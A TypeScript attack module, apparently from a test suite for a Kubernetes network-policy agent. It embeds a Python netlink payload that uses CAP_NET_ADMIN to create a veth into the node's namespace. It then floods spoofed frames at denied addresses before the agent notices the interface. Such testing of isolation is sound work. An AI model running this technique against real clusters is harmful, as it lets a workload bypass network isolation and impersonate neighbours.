import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from './attack.js';
import { eth, IPV4, IPV6, ip, udp } from './craft.js';

/** RTM_NEWLINK with IFLA_TARGET_NETNSID: a veth whose other end is where the pod's interface's other end is. */
const MAKE = `
def attr(kind, data):
    return struct.pack("HH", 4 + len(data), kind) + data + bytes(-len(data) % 4)

NEST = 0x8000
info = struct.pack("BxHiII", 0, 0, 0, 1, 1)  # up
down = struct.pack("BxHiII", 0, 0, 0, 0, 0)
peer = down + attr(3, mine.encode() + b"\\0") + attr(19, struct.pack("I", os.getpid()))
link = attr(18 | NEST, attr(1, b"veth\\0") + attr(2 | NEST, attr(1 | NEST, peer)))
body = info + attr(3, theirs.encode() + b"\\0") + attr(1, bytes.fromhex(mac)) + link + attr(46, struct.pack("i", nsid))
message = struct.pack("IHHII", 16 + len(body), 16, 0x605, 1, 0) + body
with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
    s.send(message)
    result = struct.unpack("i", s.recv(4096)[16:20])[0]
if result == 0:
    with socket.socket() as s:
        import fcntl
        fcntl.ioctl(s, 0x8914, struct.pack("16sH14x", mine.encode(), 0x43))  # SIOCSIFFLAGS: up
    with packet_socket(mine) as s:
        for _ in range(rounds):
            for frame in frames:
                try:
                    s.send(bytes.fromhex(frame))
                except OSError:
                    pass
`;

const MAC = '02:5e:c0:0d:00:01';
/** The kernel has no hook on an interface before it is there; until the agent has seen it, nobody looks. */
const LIMIT = 'the time until an interface is seen';
let made = 0;

export const attack: Attack = {
  name: 'second-veth',
  tries:
    'With CAP_NET_ADMIN makes a second pair of interfaces into the node’s namespace, and sends through it at once.',
  async run(at) {
    const n = ++made;
    const [mine, theirs] = [`own${n}`, `ev${n}`];
    at.after(() => at.bed.world.node.run('ip', ['link', 'del', theirs], { check: false }));
    const { stdout } = await at.me.pod.host.run('ip', ['-j', 'link', 'show', 'eth0']);
    const nsid = (JSON.parse(stdout) as { link_netnsid?: number }[])[0]?.link_netnsid ?? 0;
    const type = at.family === 4 ? IPV4 : IPV6;
    const link = { src: '02:5e:c0:0d:00:02', dst: MAC };
    const to = (name: string, marker: Buffer, src = at.own) =>
      eth(link, type, ip({ src, dst: at.address(name) }, udp(at.port(), 8080, marker))).toString('hex');
    const frames = at.denied.map((name) => to(name, at.measure(`to ${name}`, LIMIT)));
    const free = at.address('bad-near');
    frames.push(...at.denied.map((name) => to(name, at.measure(`to ${name}, in a neighbour’s name`, LIMIT), free)));
    const error = await at.me.program(MAKE, { mine, theirs, mac: MAC.replaceAll(':', ''), nsid, frames, rounds: 100 });
    // Where the kernel refuses it, it was tried, and this is that.
    if (error !== 0) throw new Error(`the kernel refuses it: ${error}`);
    await sleep(500);
    const late = at.denied.map((name) => to(name, at.forbid(`to ${name}, after a while`)));
    await at.send(
      late.map((hex) => Buffer.from(hex, 'hex')),
      { device: mine },
    );
    await at.send([at.frame(at.address('one'), udp(at.port(), 53, at.control('through its own interface', 'wire')))]);
  },
};
